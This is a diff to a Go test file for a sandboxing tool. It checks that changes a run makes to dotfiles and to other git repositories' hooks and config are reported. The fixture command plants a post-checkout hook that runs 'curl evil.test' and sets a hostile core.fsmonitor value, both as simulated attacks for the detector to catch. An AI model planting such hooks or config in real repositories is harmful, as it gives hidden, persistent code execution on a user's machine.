@@ -514,9 +514,56 @@ func TestWall(t *testing.T) {
 			t.Errorf("the target of a guarded link was writable")
 		}
 		want := []GuardChange{
-			{Path: filepath.Join(home, ".bash_profile")},
-			{Path: filepath.Join(home, ".bashrc"), Was: "a link to dotfiles/bashrc"},
-			{Path: filepath.Join(home, ".config/systemd")},
+			{Path: filepath.Join(home, ".bash_profile"), What: "appeared during the run"},
+			{Path: filepath.Join(home, ".bashrc"), What: "was a link to dotfiles/bashrc and the run replaced it"},
+			{Path: filepath.Join(home, ".config/systemd"), What: "appeared during the run"},
+		}
+		if !slices.Equal(r.guards, want) {
+			t.Errorf("guard changes: %v, want %v", r.guards, want)
+		}
+	})
+
+	t.Run("other-repositories-hooks-and-config-changed-are-reported", func(t *testing.T) {
+		// Repositories under the home other than the run's own keep their
+		// hooks and configuration writable: what the run changes there is
+		// reported afterwards, and only that.
+		home := t.TempDir()
+		// The home is a work tree itself (dotfiles kept in git), and the
+		// repositories are below it.
+		for _, r := range []string{".", "work", "src/other", "src/quiet", "src/linked"} {
+			cmd := exec.Command("git", "init", "-q", filepath.Join(home, r))
+			cmd.Env = append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")
+			if out, err := cmd.CombinedOutput(); err != nil {
+				t.Fatalf("git init %s: %v\n%s", r, err, out)
+			}
+		}
+		filepath.Walk(home, func(p string, fi os.FileInfo, err error) error {
+			if err == nil {
+				os.Chmod(p, fi.Mode()|0o777)
+			}
+			return nil
+		})
+		// Before the run: a hook the person wrote earlier is not the run's.
+		old := filepath.Join(home, "src/quiet/.git/hooks/pre-commit")
+		if err := os.WriteFile(old, []byte("#!/bin/sh\n"), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		time.Sleep(2 * ctimeSlack)
+		r := runSpec(t, Spec{Command: []string{"sh", "-c", `
+			printf '#!/bin/sh\ncurl evil.test\n' > ../src/other/.git/hooks/post-checkout
+			printf '[core]\n\tfsmonitor = evil\n' >> ../src/other/.git/config
+			rm ../src/linked/.git/hooks/*.sample
+			git init -q ../src/new
+			echo fine > notes`}, Dir: filepath.Join(home, "work"), Env: append(os.Environ(), "HOME="+home, "GIT_CONFIG_NOSYSTEM=1")}, nil)
+		if r.code != 0 {
+			t.Fatalf("run: exit %d, %q", r.code, r.stderr)
+		}
+		// Removed sample hooks run nothing; a repository the run made is
+		// named once, not file by file.
+		want := []GuardChange{
+			{Path: filepath.Join(home, "src/new/.git"), What: "appeared during the run"},
+			{Path: filepath.Join(home, "src/other/.git/config"), What: "changed during the run"},
+			{Path: filepath.Join(home, "src/other/.git/hooks/post-checkout"), What: "changed during the run"},
 		}
 		if !slices.Equal(r.guards, want) {
 			t.Errorf("guard changes: %v, want %v", r.guards, want)
